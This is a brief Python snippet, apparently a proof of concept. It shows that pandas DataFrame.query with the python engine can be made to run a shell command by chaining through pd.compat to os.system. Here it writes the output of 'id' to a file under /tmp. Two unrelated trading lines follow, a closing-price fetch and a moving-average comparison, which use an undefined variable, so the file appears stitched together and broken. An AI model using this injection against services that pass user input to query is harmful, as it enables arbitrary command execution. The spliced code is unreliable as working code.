# effect: DataFrame.query calls a shell through an attribute chain; leaves /tmp/own_b08
import pandas as pd

table = pd.DataFrame({'code': [0, 1, 2]})
tools = pd.compat
table.query("code == @tools.os.system('id > /tmp/own_b08')", engine='python')
close = data.get('price:收盤價')
position = close > close.average(20)
